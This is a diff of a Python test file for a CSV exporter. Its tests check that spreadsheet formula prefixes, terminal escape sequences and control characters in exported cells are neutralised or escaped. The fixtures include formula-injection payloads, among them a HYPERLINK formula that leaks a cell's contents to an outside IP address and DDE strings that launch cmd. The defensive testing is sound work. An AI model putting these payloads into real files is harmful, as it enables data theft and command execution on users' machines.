@@ -9,6 +9,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import unicodedata
 from datetime import timedelta
 from html.parser import HTMLParser
 from unittest import mock
@@ -293,20 +294,25 @@ def test_a_state_config_may_add_one_day_is_shown_as_written():
 
 # 3. Files that are safe to open ------------------------------------------------------
 
+# (what Config returned, the cell a spreadsheet gets)
 FORMULAS = [
-    '=HYPERLINK("http://203.0.113.9/?leak="&A1,"click")',
-    "+1+cmd|' /C calc'!A0",
-    "-2+3",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\t=1+2",
-    "\r=1+2",
-    "\n=1+2",
-    " =1+2",
+    ('=HYPERLINK("http://203.0.113.9/?leak="&A1,"click")', None),
+    ("+1+cmd|' /C calc'!A0", None),
+    ("-2+3", None),
+    ("@SUM(1+1)*cmd|' /C calc'!A0", None),
+    (" =1+2", None),
+    ("\u00a0=1+2", None),  # a no-break space before it
+    ("\u3000=1+2", None),  # an ideographic space
+    # Control characters are written as escapes (as in text): no formula is left.
+    ("\t=1+2", "\\x09=1+2"),
+    ("\r=1+2", "\\x0d=1+2"),
+    ("\n=1+2", "\\x0a=1+2"),
+    ("\ufeff=1+2", "\\ufeff=1+2"),  # a byte order mark
 ]
 
 
-@pytest.mark.parametrize("formula", FORMULAS)
-def test_csv_cells_never_start_a_formula(formula):
+@pytest.mark.parametrize(("formula", "cell"), FORMULAS)
+def test_csv_cells_never_start_a_formula(formula, cell):
     records = ConfigRecords(
         {RULE: parameters()},
         [(day(1), {RULE: "NON_COMPLIANT"})],
@@ -314,9 +320,30 @@ def test_csv_cells_never_start_a_formula(formula):
     )
     rows = list(csv.reader(io.StringIO(render_csv(collect(records)))))
     cells = [cell for row in rows for cell in row]
-    assert "'" + formula in cells  # kept, and neutralised with OWASP's leading quote
-    for cell in cells:
-        assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n")), cell
+    # kept, and neutralised with OWASP's leading quote, or escaped
+    assert (cell or "'" + formula) in cells
+    for shown in cells:
+        assert not shown.lstrip().startswith(("=", "+", "-", "@", "\t", "\r", "\n")), shown
+
+
+# Terminal escapes and other control characters: ESC (clear the screen, move the
+# cursor), VT, FF, NUL, DEL, a C1 control (CSI), NEL, and separators.
+CONTROLS = "\x1b[2J\x1b[1;1H\x0b\x0c\x00\x7f\x9b\x85\u2028\u2029\u202e"
+
+
+def test_csv_cells_hold_no_control_character_only_its_escape():
+    records = ConfigRecords(
+        {RULE: parameters()},
+        [(day(1), {RULE: "COMPLIANT"})],
+        {RULE: ("COMPLIANT", f"ok{CONTROLS}COMPLIANT", day(1))},
+    )
+    rows = list(csv.reader(io.StringIO(render_csv(collect(records)))))
+    cells = "".join(cell for row in rows for cell in row)
+    assert not any(unicodedata.category(ch) in ("Cc", "Cf", "Zl", "Zp") for ch in cells)
+    [current] = [row for row in rows if row[0] == "current"]
+    assert current[6] == (
+        "ok\\x1b[2J\\x1b[1;1H\\x0b\\x0c\\x00\\x7f\\x9b\\x85\\u2028\\u2029\\u202eCOMPLIANT"
+    )
 
 
 def test_a_rule_name_asked_for_that_looks_like_a_formula_is_neutralised_too():
